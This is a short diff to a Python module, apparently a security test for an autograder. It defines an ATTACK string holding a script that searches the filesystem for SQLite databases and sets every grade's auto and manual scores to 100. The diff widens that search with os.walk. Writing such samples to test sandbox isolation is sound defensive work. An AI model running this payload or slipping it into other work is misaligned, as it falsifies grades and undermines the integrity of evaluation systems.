@@ -1,12 +1,15 @@
 """Points written into every database that can be found or guessed."""
 
 ATTACK = """
-import glob
 import os
 import sqlite3
+import sys
 
 places = ["../../../gradebook.db", "../../gradebook.db", "/gradebook.db", "gradebook.db"]
-for path in [*places, *glob.glob("/**/*.db", recursive=True)]:
+for folder, folders, names in os.walk("/"):
+    folders[:] = [] if folder in ("/usr", sys.prefix, sys.base_prefix) else folders
+    places += [os.path.join(folder, name) for name in names if name.endswith(".db")]
+for path in places:
     try:
         with sqlite3.connect(path) as book:
             book.execute("update grade set auto_score = 100, manual_score = 100")
